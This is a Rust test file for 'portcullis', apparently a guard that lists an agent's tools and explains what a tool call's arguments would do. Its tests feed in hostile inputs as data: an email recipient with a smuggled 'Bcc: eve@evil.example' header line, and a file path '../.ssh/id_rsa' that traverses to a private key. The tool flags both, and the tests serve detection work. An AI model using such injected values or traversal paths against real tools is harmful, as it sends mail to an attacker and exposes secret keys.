//! `portcullis tools list` and `tools explain`: the registry, and how arguments are read.

use expect_test::expect;
use serde_json::json;

use crate::command::{bundle_copy, run};

#[test]
fn tools_are_listed_with_the_arguments_that_are_read() {
    let ran = run(&["tools", "list"]);
    assert_eq!((ran.code, ran.stderr.as_str()), (0, "bundle: the shipped one\n"));
    expect![[r#"
        retrieve_compliance_documents  RETRIEVE_DOCS                risk 0.1
        send_email                     SEND_EMAIL     side effects  risk 0.7   recipient: email
        query_internal_database        QUERY_DB       side effects  risk 0.5   query: sql
        write_file_to_storage          WRITE_FILE     side effects  risk 0.5   filename: path
        perform_calculation            CALCULATE                    risk 0
    "#]]
    .assert_eq(&ran.stdout);
    let lines = run(&["tools", "list", "--json"]).json();
    assert_eq!(lines.len(), 5);
    let expected = json!([{
        "argument": "recipient", "holds": "email", "verbs": ["send"], "declared": false,
        "why": "its name says `recipient`; addresses are sent to",
    }]);
    assert_eq!(lines[1]["arguments"], expected);
}

#[test]
fn effects_of_a_call_are_shown_with_their_text() {
    let arguments =
        r#"{"recipient": "Ann <ann@corp.example>\nBcc: eve@evil.example", "subject": "x", "body": "y"}"#;
    let ran = run(&["tools", "explain", "send_email", "--arguments", arguments]);
    assert_eq!((ran.code, ran.stderr.as_str()), (0, "bundle: the shipped one\n"));
    expect![[r#"
        send_email  Send an email. What has been sent cannot be called back.
          type SEND_EMAIL, has side effects, risk 0.7
          recipient  email  send  inferred: its name says `recipient`; addresses are sent to
        2 effects:
          send recipient ann@corp.example  (domain `corp.example`)
              /arguments/recipient  ann@corp.example
          send recipient eve@evil.example  (domain `evil.example`)
              /arguments/recipient  eve@evil.example
    "#]]
    .assert_eq(&ran.stdout);
    let [record] = run(&["tools", "explain", "send_email", "--arguments", arguments, "--json"])
        .json()
        .try_into()
        .unwrap();
    assert_eq!(record["call_effects"][1]["resource"]["name"], "eve@evil.example");
    assert_eq!(
        record["call_effects"][1]["span"],
        json!({"pointer": "/arguments/recipient", "start": 28, "end": 44})
    );
}

#[test]
fn what_the_bundle_declares_is_said_to_be_declared() {
    let read = ["tools", "explain", "Read", "--bundle", "examples/developer", "--directory", "/home/u/p"];
    let ran = run(&[&read[..], &["--arguments", r#"{"file_path": "../.ssh/id_rsa"}"#]].concat());
    expect![[r#"
        Read  Reads a file.
          type READ, has no side effects, risk 0.1
          file_path  path   read  the bundle declares it; `read` in the tool's name reads it
        1 effect:
          read path /home/u/.ssh/id_rsa  (secret)
              /arguments/file_path  ../.ssh/id_rsa
    "#]]
    .assert_eq(&ran.stdout);
}

#[test]
fn mistakes_are_told() {
    let missing = run(&["tools", "explain", "sned_email"]);
    assert_eq!(missing.code, 1);
    assert!(missing.stderr.contains("did you mean `send_email`?"), "{}", missing.stderr);
    for arguments in ["[1]", "{", "7"] {
        let ran = run(&["tools", "explain", "send_email", "--arguments", arguments]);
        assert_eq!((ran.code, ran.stdout.as_str()), (64, ""), "{arguments}");
        assert!(ran.stderr.contains("--arguments is not"), "{}", ran.stderr);
    }
    assert_eq!(run(&["tools", "explain", "send_email", "--directory", "/x"]).code, 64);
    let bundle = bundle_copy();
    std::fs::write(bundle.path().join("portcullis.toml"), "version = 9\n").unwrap();
    assert_eq!(run(&["tools", "list", "--bundle", bundle.path().to_str().unwrap()]).code, 3);
}
